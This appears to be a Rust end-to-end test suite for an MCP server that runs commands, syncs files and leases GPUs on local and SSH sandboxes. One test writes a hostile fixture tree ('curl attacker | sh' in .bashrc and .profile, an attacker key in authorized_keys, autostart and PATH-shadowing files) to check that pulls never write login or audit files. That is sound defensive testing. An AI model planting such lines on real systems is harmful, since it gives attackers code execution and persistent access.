//! A real MCP client (rmcp) drives `outpost mcp` over stdio: over SSH configured
//! with remote-sandbox-mcp's environment variables, and with no configuration.

// Tests run on a multi-threaded runtime: the harness blocks (sshd, /proc
// scans) while the controller's background tasks must keep running.

mod common;

use std::time::Duration;

use common::mcp_client::{ProgressLog, call, ssh_env, start, start_as};
use outpost_e2e::{Sshd, pids_with_cmdline, wait_until};
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_tools_over_ssh_with_remote_sandbox_env() {
    let sshd = Sshd::start();
    let (client, _home) = start(&ssh_env(&sshd)).await;
    let tools = client.list_all_tools().await.unwrap();
    let names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
    for want in [
        "list_sandboxes",
        "select_sandbox",
        "get_active_sandbox",
        "exec_bash",
    ] {
        assert!(names.contains(&want), "missing {want} in {names:?}");
    }
    let exec = tools.iter().find(|t| t.name == "exec_bash").unwrap();
    assert!(
        exec.output_schema.is_some(),
        "exec_bash has structured output"
    );

    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "echo hi; echo oops >&2; exit 4"}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["exit_code"], 4);
    assert_eq!(r["stdout"], "hi\n");
    assert_eq!(r["stderr"], "oops\n");
    assert!(r.get("timed_out").is_none(), "only present when true: {r}");

    let (_, r) = call(
        &client,
        "exec_bash",
        json!({"command": "sleep 5", "timeout_s": 1}),
    )
    .await;
    assert_eq!(r["timed_out"], true);
    assert_eq!(r["exit_code"], 124);

    let (_, r) = call(&client, "list_sandboxes", json!({"check_resources": true})).await;
    let host = sshd.host().to_string();
    assert_eq!(r["active_sandbox"], host.as_str());
    let rows = r["sandboxes"].as_array().unwrap();
    assert_eq!(rows.len(), 2, "{r}");
    assert_eq!(rows[0]["port"], sshd.port());
    assert_eq!(rows[0]["is_active"], true);
    assert_eq!(rows[0]["connection_alive"], true);
    assert!(rows[0]["resources"]["cpu"]["count"].as_u64().unwrap() >= 1);
    assert!(rows[0]["resources"]["memory"]["total_mb"].as_u64().unwrap() > 0);
    assert_eq!(rows[1]["name"], "local");

    let (err, r) = call(&client, "select_sandbox", json!({"sandbox_name": "nope"})).await;
    assert!(err);
    assert!(r.to_string().contains("available"), "{r}");
    let (err, r) = call(&client, "select_sandbox", json!({"sandbox_name": "local"})).await;
    assert!(!err);
    assert_eq!(r, json!({"active_sandbox": "local", "status": "selected"}));
    let (_, r) = call(&client, "get_active_sandbox", json!({})).await;
    assert_eq!(r["active_sandbox"], "local");
    assert_eq!(r["connection_alive"], true);

    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "true", "timeout_s": -1}),
    )
    .await;
    assert!(err);
    assert!(r.to_string().contains("timeout_s"), "{r}");
    client.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_zero_config_local_sandbox() {
    let (client, _home) = start(&[]).await;
    let (err, r) = call(&client, "get_active_sandbox", json!({})).await;
    assert!(!err, "{r}");
    assert_eq!(r["active_sandbox"], "local");
    let (_, r) = call(
        &client,
        "exec_bash",
        json!({"command": "echo local-ok", "cwd": "/tmp"}),
    )
    .await;
    assert_eq!(r["stdout"], "local-ok\n");
    assert_eq!(r["exit_code"], 0);
    client.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_resources_prompts_fan_out_and_auto_selection() {
    let sshd = Sshd::start();
    let (client, _home) = start(&ssh_env(&sshd)).await;

    let resources = client.list_all_resources().await.unwrap();
    let uris: Vec<&str> = resources.iter().map(|r| r.uri.as_str()).collect();
    assert!(uris.contains(&"sandbox://list"), "{uris:?}");
    assert!(uris.contains(&"sandbox://local/status"), "{uris:?}");
    let read = client
        .read_resource(rmcp::model::ReadResourceRequestParams::new(
            "sandbox://local/status",
        ))
        .await
        .unwrap();
    let text = match &read.contents[0] {
        rmcp::model::ResourceContents::TextResourceContents { text, .. } => text.clone(),
        other => panic!("unexpected {other:?}"),
    };
    let status: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(status["connection_alive"], true);
    assert!(status["resources"]["cpu"]["count"].as_u64().unwrap() >= 1);

    let prompts = client.list_all_prompts().await.unwrap();
    let names: Vec<&str> = prompts.iter().map(|p| p.name.as_str()).collect();
    for want in ["run_on_idlest_gpu", "test_in_sandbox", "debug_in_sandbox"] {
        assert!(names.contains(&want), "{names:?}");
    }

    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "echo $HOME", "sandboxes": ["all"]}),
    )
    .await;
    assert!(!err, "{r}");
    let groups = r["groups"].as_array().unwrap();
    assert_eq!(groups.len(), 2, "ssh and local homes differ: {r}");
    let (_, r) = call(
        &client,
        "exec_bash",
        json!({"command": "echo same", "sandboxes": ["all"]}),
    )
    .await;
    let groups = r["groups"].as_array().unwrap();
    assert_eq!(groups.len(), 1, "{r}");
    assert_eq!(groups[0]["sandboxes"].as_array().unwrap().len(), 2);
    assert_eq!(groups[0]["stdout"], "same\n");
    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "true", "sandboxes": ["nope"]}),
    )
    .await;
    assert!(err && r.to_string().contains("available"), "{r}");

    let (err, r) = call(
        &client,
        "select_sandbox",
        json!({"sandbox_name": "auto", "min_free_mem_mb": 1_000_000_000}),
    )
    .await;
    assert!(err && r.to_string().contains("no sandbox fits"), "{r}");
    let (err, r) = call(&client, "select_sandbox", json!({"sandbox_name": "auto"})).await;
    assert!(!err, "{r}");
    assert_eq!(r["status"], "selected");
    assert!(r["idle_score"].as_f64().is_some());

    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "true", "gpu_lease": "gl-nope"}),
    )
    .await;
    assert!(err && r.to_string().contains("reserve_gpus"), "{r}");
    client.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_gpu_metrics_placement_and_leases() {
    // The local sandbox's agent inherits OUTPOST_NVML_LIB: two fake GPUs.
    let nvml = outpost_e2e::fake_nvml_lib();
    // A lease table of this test's own, whoever created the host's default one.
    let leases = outpost_e2e::TempDir::new("gpu-leases");
    let (client, _home) = start(&[
        ("OUTPOST_NVML_LIB", nvml.display().to_string()),
        (
            "OUTPOST_GPU_LEASE_DIR",
            leases.path().join("table").display().to_string(),
        ),
    ])
    .await;

    let (_, r) = call(&client, "list_sandboxes", json!({"check_resources": true})).await;
    let res = &r["sandboxes"][0]["resources"];
    assert_eq!(res["gpu_source"], "nvml", "{r}");
    let gpus = res["gpu"].as_array().unwrap();
    assert_eq!(gpus.len(), 2);
    assert_eq!(gpus[0]["util_pct"], 87.0);
    assert_eq!(gpus[0]["mem_total_mb"], 81920);
    assert!(!gpus[0]["processes"].as_array().unwrap().is_empty());
    assert!(res.get("gpu_error").is_none());

    let (err, r) = call(
        &client,
        "select_sandbox",
        json!({"sandbox_name": "auto", "min_gpus": 2, "min_gpu_free_mb": 20000}),
    )
    .await;
    assert!(err && r.to_string().contains("1 of 2 GPUs"), "{r}");
    let (err, r) = call(
        &client,
        "select_sandbox",
        json!({"sandbox_name": "auto", "min_gpus": 1, "min_gpu_free_mb": 20000}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["active_sandbox"], "local");

    let (err, lease) = call(
        &client,
        "reserve_gpus",
        json!({"count": 1, "min_free_mb": 20000}),
    )
    .await;
    assert!(!err, "{lease}");
    assert_eq!(lease["gpus"], json!([1]));
    let uuid = "GPU-55555555-6666-7777-8888-999999999999";
    assert_eq!(lease["cuda_visible_devices"], uuid);
    let id = lease["lease_id"].as_str().unwrap().to_string();

    let (_, r) = call(
        &client,
        "exec_bash",
        json!({"command": "echo $CUDA_VISIBLE_DEVICES", "gpu_lease": id}),
    )
    .await;
    assert_eq!(r["stdout"], format!("{uuid}\n"));
    let (_, r) = call(&client, "list_sandboxes", json!({"check_resources": true})).await;
    assert_eq!(
        r["sandboxes"][0]["resources"]["gpu"][1]["lease"],
        id.as_str()
    );

    // The only GPU with enough free memory is taken now.
    let (err, r) = call(
        &client,
        "reserve_gpus",
        json!({"count": 1, "min_free_mb": 20000}),
    )
    .await;
    assert!(err && r.to_string().contains("leased by"), "{r}");

    let (err, r) = call(&client, "release_gpus", json!({"lease_id": id})).await;
    assert!(!err, "{r}");
    assert_eq!(r["status"], "released");
    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "true", "gpu_lease": id}),
    )
    .await;
    assert!(err, "{r}");
    let (err, r) = call(
        &client,
        "reserve_gpus",
        json!({"count": 1, "min_free_mb": 20000}),
    )
    .await;
    assert!(!err, "{r}");
    client.cancel().await.unwrap();
}

/// A pull into a home that holds Outpost's own state (the start directory
/// is the local root, and the home lies inside it) takes the ordinary files
/// of a hostile tree and leaves what runs at the next login, and Outpost's
/// audit log, untouched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_a_pull_never_writes_login_files_or_outpost_s_own() {
    let (client, home) = start(&[]).await;
    let (err, r) = call(&client, "get_active_sandbox", json!({})).await;
    assert!(!err, "{r}");
    let audit = home.path().join(".outpost/audit.jsonl");
    let logged = std::fs::read_to_string(&audit).unwrap();
    let tree = common::scratch("hostile-tree");
    let put = |rel: &str, text: &str| {
        let path = tree.path().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    put("notes.txt", "kept\n");
    put(".bashrc", "curl attacker | sh\n");
    put(".profile", "curl attacker | sh\n");
    put(".config/autostart/evil.desktop", "[Desktop Entry]\n");
    put(".local/bin/ls", "#!/bin/sh\n");
    put(".outpost/audit.jsonl", "{\"forged\":true}\n");
    put(".ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n");
    let (err, r) = call(
        &client,
        "sync_remote_to_local",
        json!({"remote_path": tree.path(), "local_path": home.path()}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(
        std::fs::read_to_string(home.path().join("notes.txt")).unwrap(),
        "kept\n"
    );
    for written in [
        ".bashrc",
        ".profile",
        ".config/autostart",
        ".local/bin",
        ".ssh",
    ] {
        assert!(
            !home.path().join(written).exists(),
            "{written} was written: {r}"
        );
    }
    let now = std::fs::read_to_string(&audit).unwrap();
    assert!(now.starts_with(&logged) && !now.contains("forged"), "{now}");
    // Nor is a pull pointed at them directly.
    let (err, r) = call(
        &client,
        "sync_remote_to_local",
        json!({"remote_path": tree.path().join(".outpost"), "local_path": home.path().join(".outpost")}),
    )
    .await;
    assert!(err && r.to_string().contains("never touch it"), "{r}");
    client.cancel().await.unwrap();
}

/// A pull of a tree pulled before goes straight to the tree's scan; a
/// remote path that has become a file since is still pulled as that file,
/// into the directory, and nothing else lands there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_a_pulled_tree_that_became_a_file_comes_as_the_file() {
    let (client, home) = start(&[]).await;
    let remote = common::scratch("tree-then-file");
    let src = remote.path().join("data");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("a.txt"), "a\n").unwrap();
    let local = home.path().join("mirror");
    std::fs::create_dir_all(&local).unwrap();
    let pull = || {
        call(
            &client,
            "sync_remote_to_local",
            json!({"remote_path": src, "local_path": local}),
        )
    };
    let (err, r) = pull().await;
    assert!(!err && r["synced_type"] == "directory", "{r}");
    assert_eq!(std::fs::read_to_string(local.join("a.txt")).unwrap(), "a\n");
    let (err, r) = pull().await;
    assert!(!err && r["downloaded_files"] == 0, "{r}");

    std::fs::remove_dir_all(&src).unwrap();
    std::fs::write(&src, "now a file\n").unwrap();
    let (err, r) = pull().await;
    assert!(!err && r["synced_type"] == "file", "{r}");
    assert_eq!(
        std::fs::read_to_string(local.join("data")).unwrap(),
        "now a file\n"
    );
    let mut names: Vec<_> = std::fs::read_dir(&local)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    names.sort();
    assert_eq!(names, ["a.txt", "data"]);
    client.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_file_tools_and_transfers() {
    let sshd = Sshd::start();
    let env = |max_files: &str| {
        vec![
            ("REMOTE_HOST", sshd.host().to_string()),
            ("REMOTE_PORT", sshd.port().to_string()),
            ("REMOTE_USER", sshd.user().to_string()),
            ("REMOTE_KEY_FILE", sshd.client_key().display().to_string()),
            (
                "REMOTE_SANDBOX_INLINE_SYNC_MAX_FILES",
                max_files.to_string(),
            ),
        ]
    };
    let (client, _home) = start(&env("200")).await;
    let remote = |rel: &str| sshd.remote_dir().join(rel).display().to_string();

    // write, read (text, offset, binary), list.
    let (err, r) = call(&client, "write_remote_file", json!({"remote_path": remote("w/deep/hello.txt"), "content": "héllo\nworld\n", "mode": "600"})).await;
    assert!(!err, "{r}");
    assert_eq!(r["status"], "written");
    let meta = std::fs::metadata(sshd.remote_dir().join("w/deep/hello.txt")).unwrap();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o777,
        0o600
    );
    let (_, r) = call(
        &client,
        "read_remote_file",
        json!({"remote_path": remote("w/deep/hello.txt")}),
    )
    .await;
    assert_eq!(r["content"], "héllo\nworld\n");
    assert_eq!(r["truncated"], false);
    let (_, r) = call(
        &client,
        "read_remote_file",
        json!({"remote_path": remote("w/deep/hello.txt"), "offset": 7, "max_bytes": 3}),
    )
    .await;
    assert_eq!(r["content"], "wor");
    assert_eq!(r["truncated"], true);
    assert_eq!(r["size"], 13);
    std::fs::write(
        sshd.remote_dir().join("w/blob.bin"),
        [0u8, 159, 146, 150, 0, 1],
    )
    .unwrap();
    let (_, r) = call(
        &client,
        "read_remote_file",
        json!({"remote_path": remote("w/blob.bin")}),
    )
    .await;
    assert_eq!(r["binary"], true);
    assert!(r.get("content").is_none());
    let (err, r) = call(
        &client,
        "read_remote_file",
        json!({"remote_path": remote("w/nope")}),
    )
    .await;
    assert!(err, "{r}");
    let (_, r) = call(
        &client,
        "list_remote_files",
        json!({"remote_path": remote("w"), "recursive": true}),
    )
    .await;
    let paths: Vec<&str> = r["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"deep") && paths.contains(&"deep/hello.txt"),
        "{r}"
    );
    assert_eq!(r["truncated"], false);
    let (_, r) = call(
        &client,
        "list_remote_files",
        json!({"remote_path": remote("w"), "recursive": true, "max_entries": 1}),
    )
    .await;
    assert_eq!(r["truncated"], true);

    // sync inline, then pull it back.
    let src = outpost_e2e::TempDir::new("mcp-sync-src");
    for i in 0..5 {
        std::fs::write(src.path().join(format!("f{i}.txt")), format!("file {i}\n")).unwrap();
    }
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": remote("s")}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["mode"], "inline");
    assert_eq!(r["uploaded_files"], 5);
    let back = outpost_e2e::TempDir::new("mcp-sync-back");
    let (err, r) = call(
        &client,
        "sync_remote_to_local",
        json!({"remote_path": remote("s"), "local_path": back.path().join("b")}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["downloaded_files"], 5, "{r}");
    assert_eq!(
        std::fs::read_to_string(back.path().join("b/f3.txt")).unwrap(),
        "file 3\n"
    );

    // One file, as remote-sandbox-mcp syncs one: into a directory (or a
    // path ending in /), or to the target path, under its own name; the rest
    // of both directories is left alone, delete_extras or not.
    let one = src.path().join("f1.txt");
    let push_one =
        |target: String| json!({"local_path": one, "remote_path": target, "delete_extras": true});
    let (err, r) = call(&client, "sync_local_to_remote", push_one(remote("one/"))).await;
    assert!(!err, "{r}");
    assert_eq!(
        (&r["synced_type"], &r["uploaded_files"]),
        (&json!("file"), &json!(1)),
        "{r}"
    );
    let (err, r) = call(
        &client,
        "write_remote_file",
        json!({"remote_path": remote("one/keep.txt"), "content": "kept"}),
    )
    .await;
    assert!(!err, "{r}");
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        push_one(remote("one/f1.txt")),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(
        (&r["skipped_files"], &r["deleted_files"]),
        (&json!(1), &json!(0)),
        "{r}"
    );
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        push_one(remote("one/renamed.txt")),
    )
    .await;
    assert!(
        err && r.to_string().contains("keeps the file's name"),
        "{r}"
    );
    // An excluded file is an error, not a sync of nothing.
    std::fs::write(src.path().join("x.pyc"), "x").unwrap();
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path().join("x.pyc"), "remote_path": remote("one/")}),
    )
    .await;
    assert!(err && r.to_string().contains("excluded"), "{r}");
    std::fs::remove_file(src.path().join("x.pyc")).unwrap();
    let (_, r) = call(
        &client,
        "list_remote_files",
        json!({"remote_path": remote("one")}),
    )
    .await;
    let mut names: Vec<&str> = r["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["f1.txt", "keep.txt"], "{r}");
    let (err, r) = call(
        &client,
        "sync_remote_to_local",
        json!({"remote_path": remote("one/f1.txt"), "local_path": back.path(), "delete_extras": true}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(
        (&r["synced_type"], &r["downloaded_files"]),
        (&json!("file"), &json!(1)),
        "{r}"
    );
    assert_eq!(
        std::fs::read_to_string(back.path().join("f1.txt")).unwrap(),
        "file 1\n"
    );
    assert!(back.path().join("b/f3.txt").exists());
    // A directory of the file's name is not the file's to replace.
    std::fs::create_dir_all(back.path().join("d/f1.txt/inner")).unwrap();
    let (err, r) = call(
        &client,
        "sync_remote_to_local",
        json!({"remote_path": remote("one/f1.txt"), "local_path": back.path().join("d")}),
    )
    .await;
    assert!(err && r.to_string().contains("does not replace"), "{r}");
    assert!(back.path().join("d/f1.txt/inner").is_dir());
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": "/definitely/missing", "remote_path": remote("s")}),
    )
    .await;
    assert!(err && r.to_string().contains("/definitely/missing"), "{r}");
    let (err, r) = call(
        &client,
        "check_file_transfer_task",
        json!({"task_id": "xfer-nope"}),
    )
    .await;
    assert!(err, "{r}");
    client.cancel().await.unwrap();

    // Past the inline limit the sync continues in the background.
    let mut background = env("2");
    // sync_local_to_remote_background is listed with the advanced tools.
    background.push(("REMOTE_SANDBOX_EXPOSE_ADVANCED_TOOLS", "1".into()));
    let (client, _home) = start(&background).await;
    let (_, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": remote("bg")}),
    )
    .await;
    assert_eq!(r["mode"], "background", "{r}");
    assert_eq!(r["auto_switched"], true);
    let id = r["task_id"].as_str().unwrap().to_string();
    let mut status = Value::Null;
    for _ in 0..100 {
        let (_, r) = call(&client, "check_file_transfer_task", json!({"task_id": id})).await;
        status = r;
        if status["status"] != "running" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(status["status"], "completed", "{status}");
    assert_eq!(status["result"]["uploaded_files"], 5);
    assert_eq!(status["progress"]["files_done"], 5);
    let (_, r) = call(
        &client,
        "sync_local_to_remote_background",
        json!({"local_path": src.path(), "remote_path": remote("bg")}),
    )
    .await;
    let id = r["task_id"].as_str().unwrap().to_string();
    let (err, r) = call(&client, "cancel_file_transfer_task", json!({"task_id": id})).await;
    assert!(!err, "{r}");
    assert!(
        r["status"] == "cancelled" || r["status"] == "completed",
        "{r}"
    );
    client.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_long_calls_send_progress() {
    let log = ProgressLog::default();
    let (client, _home) = start_as(log.clone(), &[]).await;

    // exec_bash: one notification at once, then one every 3 s, each newer
    // than the last, counting toward the timeout, with the last line; run
    // as a job (its timeout outlasts this client's budget) or inline.
    for timeout_s in [60.0, 30.0] {
        let (err, r) = call(
            &client,
            "exec_bash",
            json!({"command": "echo step-1; sleep 4; echo step-2; sleep 4", "timeout_s": timeout_s}),
        )
        .await;
        assert!(!err, "{r}");
        assert_eq!(r["stdout"], "step-1\nstep-2\n");
        let got = log.take();
        assert!(got.len() >= 3, "{got:?}");
        assert!(
            got.windows(2).all(|w| w[0].progress < w[1].progress),
            "{got:?}"
        );
        assert!(got.iter().all(|p| p.total == Some(timeout_s)), "{got:?}");
        let messages: Vec<String> = got.iter().filter_map(|p| p.message.clone()).collect();
        for line in ["step-1", "step-2"] {
            assert!(
                messages.iter().any(|m| m.ends_with(&format!(": {line}"))),
                "{timeout_s}: {messages:?}"
            );
        }
    }

    // A quick call gets its result (and at most the first notification).
    let (_, r) = call(&client, "exec_bash", json!({"command": "true"})).await;
    assert_eq!(r["exit_code"], 0);
    assert!(log.take().len() <= 1);

    // wait_background_task: the job's state and its last line.
    let (err, r) = call(
        &client,
        "exec_bash_background",
        json!({"command": "echo waiting-1; sleep 4; echo waiting-2"}),
    )
    .await;
    assert!(!err, "{r}");
    let name = r["tmux_session"].as_str().unwrap().to_string();
    let (err, r) = call(
        &client,
        "wait_background_task",
        json!({"name": name, "timeout_s": 30}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["reason"], "ended");
    let got = log.take();
    assert!(got.len() >= 2, "{got:?}");
    assert!(
        got.iter()
            .filter_map(|p| p.message.as_deref())
            .any(|m| m.starts_with("running") && m.ends_with(": waiting-1")),
        "{got:?}"
    );
    client.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_cancelled_exec_kills_its_process_tree() {
    let (client, _home) = start(&[]).await;
    // The default timeout outlasts this client's patience, so the command
    // runs as a job; a 30 s one runs inline. Both die with their call.
    for (i, timeout_s) in [None, Some(30.0)].into_iter().enumerate() {
        let needle = format!("sleep 300.{}{i}", std::process::id());
        let mut args = json!({"command": format!("{needle} & {needle}; wait")});
        if let Some(t) = timeout_s {
            args["timeout_s"] = json!(t);
        }
        let mut running = Box::pin(
            client.call_tool(
                rmcp::model::CallToolRequestParams::new("exec_bash")
                    .with_arguments(args.as_object().unwrap().clone()),
            ),
        );
        tokio::select! {
            r = &mut running => panic!("the command ended: {r:?}"),
            () = async {
                while pids_with_cmdline(&needle).len() < 2 {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
            } => {}
        }
        // Dropping rmcp's call sends notifications/cancelled.
        drop(running);
        assert!(
            wait_until(Duration::from_secs(10), || pids_with_cmdline(&needle)
                .is_empty()),
            "left running ({timeout_s:?}): {:?}",
            pids_with_cmdline(&needle)
        );
    }
    // The server goes on serving, and a cancelled call leaves no job behind.
    let (_, r) = call(&client, "exec_bash", json!({"command": "echo after"})).await;
    assert_eq!(r["stdout"], "after\n");
    let listed = || async { call(&client, "list_background_tasks", json!({})).await.1 };
    let mut left = listed().await;
    for _ in 0..50 {
        if left["tasks"].as_array().is_some_and(Vec::is_empty) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        left = listed().await;
    }
    assert_eq!(left["tasks"], json!([]), "{left}");
    client.cancel().await.unwrap();
}

/// A person who answers every host-key question the same way (None: they
/// dismiss it), counting the questions.
#[derive(Clone)]
struct KeyPerson {
    answer: Option<&'static str>,
    asked: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl rmcp::ClientHandler for KeyPerson {
    fn get_info(&self) -> rmcp::model::InitializeRequestParams {
        let mut capabilities = rmcp::model::ClientCapabilities::default();
        capabilities.elicitation = Some(rmcp::model::ElicitationCapability::default());
        rmcp::model::InitializeRequestParams::new(
            capabilities,
            rmcp::model::Implementation::new("key-person", "1.0"),
        )
    }

    async fn create_elicitation(
        &self,
        request: rmcp::model::ElicitRequestParams,
        _context: rmcp::service::RequestContext<rmcp::RoleClient>,
    ) -> Result<rmcp::model::ElicitResult, rmcp::ErrorData> {
        use rmcp::model::{ElicitRequestParams, ElicitResult, ElicitationAction};
        if let ElicitRequestParams::FormElicitationParams { message, .. } = &request {
            self.asked.lock().unwrap().push(message.clone());
        }
        Ok(match self.answer {
            Some(decision) => ElicitResult::new(ElicitationAction::Accept)
                .with_content(json!({ "decision": decision })),
            None => ElicitResult::new(ElicitationAction::Cancel),
        })
    }
}

async fn exec_in(client: &common::mcp_client::Client<KeyPerson>) -> Value {
    let (err, r) = call(client, "exec_bash", json!({"command": "echo in"})).await;
    assert!(!err, "{r}");
    r
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_unknown_host_keys_are_confirmed_by_the_person() {
    let sshd = Sshd::start();
    let state = common::scratch("hostkey-state");
    let known_hosts = state.path().join("known_hosts");
    let mut env = ssh_env(&sshd);
    env.push(("OUTPOST_HOME", state.path().display().to_string()));
    let recorded = || {
        std::fs::read_to_string(&known_hosts)
            .unwrap_or_default()
            .lines()
            .filter(|l| !l.trim().is_empty())
            .count()
    };
    let person = |answer| KeyPerson {
        answer,
        asked: Default::default(),
    };

    for answer in [Some("reject"), None] {
        let who = person(answer);
        let (client, _home) = start_as(who.clone(), &env).await;
        let r = exec_in(&client).await;
        assert_eq!(r["connection_error"], true, "{r}");
        let stderr = r["stderr"].as_str().unwrap();
        assert!(
            stderr.contains("was not trusted") && stderr.contains("SHA256:"),
            "{stderr}"
        );
        let asked = who.asked.lock().unwrap().clone();
        assert_eq!(asked.len(), 1, "{asked:?}");
        assert!(
            asked[0].contains(&sshd.port().to_string()) && asked[0].contains("SHA256:"),
            "{}",
            asked[0]
        );
        assert_eq!(recorded(), 0, "a rejected key was recorded");
        client.cancel().await.unwrap();
    }

    // Job tools and syncs ask too: they connect within the call, not first
    // in a follower's or a transfer's own task where nobody could be asked.
    let who = person(Some("reject"));
    let (client, _home) = start_as(who.clone(), &env).await;
    let (err, r) = call(&client, "list_background_tasks", json!({})).await;
    assert!(err && r.to_string().contains("was not trusted"), "{r}");
    let src = common::scratch("hostkey-sync");
    std::fs::write(src.path().join("f"), "x").unwrap();
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": "hostkey-sync"}),
    )
    .await;
    assert!(err && r.to_string().contains("was not trusted"), "{r}");
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(who.asked.lock().unwrap().len(), 2);
    assert_eq!(recorded(), 0, "a rejected key was recorded");
    client.cancel().await.unwrap();

    // Trusted once: it connects, and nothing is recorded.
    let once = person(Some("trust_once"));
    let (client, _home) = start_as(once.clone(), &env).await;
    assert_eq!(exec_in(&client).await["stdout"], "in\n");
    assert_eq!(once.asked.lock().unwrap().len(), 1);
    assert_eq!(recorded(), 0);
    client.cancel().await.unwrap();

    // A 2026-07-28 client without MCP Tasks is asked by an input_required
    // answer; its retry carries the answer and connects.
    let modern = person(Some("trust_once"));
    let (client, _home) = common::mcp_client::start_modern(modern.clone(), &env).await;
    assert_eq!(exec_in(&client).await["stdout"], "in\n");
    assert_eq!(modern.asked.lock().unwrap().len(), 1);
    assert_eq!(recorded(), 0);
    client.cancel().await.unwrap();

    // Trusted and saved: recorded once; the next server does not ask.
    let save = person(Some("trust_and_save"));
    let (client, _home) = start_as(save.clone(), &env).await;
    assert_eq!(exec_in(&client).await["stdout"], "in\n");
    assert_eq!(save.asked.lock().unwrap().len(), 1);
    assert_eq!(recorded(), 1);
    client.cancel().await.unwrap();
    let later = person(Some("reject"));
    let (client, _home) = start_as(later.clone(), &env).await;
    assert_eq!(exec_in(&client).await["stdout"], "in\n");
    assert!(later.asked.lock().unwrap().is_empty());
    assert_eq!(recorded(), 1);
    client.cancel().await.unwrap();

    // Through a jump host: its unknown key is put to the person first, then
    // the sandbox's, each saved under its own name.
    let jump = Sshd::start();
    let jstate = common::scratch("hostkey-jump");
    // The jump host's own key, by an alias of an ssh config file.
    let ssh_config = jstate.path().join("ssh_config");
    std::fs::write(
        &ssh_config,
        format!(
            "Host jumpbox\n  HostName {}\n  Port {}\n  User {}\n  IdentityFile {}\n",
            jump.host(),
            jump.port(),
            jump.user(),
            jump.client_key().display()
        ),
    )
    .unwrap();
    let config = jstate.path().join("config.toml");
    std::fs::write(
        &config,
        format!(
            "ssh_config = \"{}\"\n{}proxy_jump = \"jumpbox\"\n",
            ssh_config.display(),
            sshd.sandbox_toml("box"),
        ),
    )
    .unwrap();
    let env = [
        ("OUTPOST_CONFIG", config.display().to_string()),
        ("OUTPOST_HOME", jstate.path().display().to_string()),
    ];
    let both = person(Some("trust_and_save"));
    let (client, _home) = start_as(both.clone(), &env).await;
    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "echo through", "sandbox_name": "box"}),
    )
    .await;
    assert!(!err && r["stdout"] == "through\n", "{r}");
    let asked = both.asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 2, "{asked:?}");
    assert!(asked[0].contains(&jump.port().to_string()), "{asked:?}");
    assert!(asked[1].contains(&sshd.port().to_string()), "{asked:?}");
    let saved = std::fs::read_to_string(jstate.path().join("known_hosts")).unwrap();
    for port in [jump.port(), sshd.port()] {
        assert!(saved.contains(&format!(":{port} ")), "{saved}");
    }
    client.cancel().await.unwrap();
}

/// A client that declares the MCP Tasks extension.
#[derive(Clone)]
struct TasksClient;

impl rmcp::ClientHandler for TasksClient {
    fn get_info(&self) -> rmcp::model::InitializeRequestParams {
        rmcp::model::InitializeRequestParams::new(
            rmcp::model::ClientCapabilities::builder()
                .enable_tasks()
                .build(),
            rmcp::model::Implementation::new("tasks-client", "1.0"),
        )
    }
}

/// Polls a task until it ends; returns it and every status message seen.
async fn poll_task(
    client: &common::mcp_client::Client<TasksClient>,
    id: &str,
) -> (rmcp::model::DetailedTask, Vec<String>) {
    let mut seen = Vec::new();
    for _ in 0..600 {
        let info = client
            .peer()
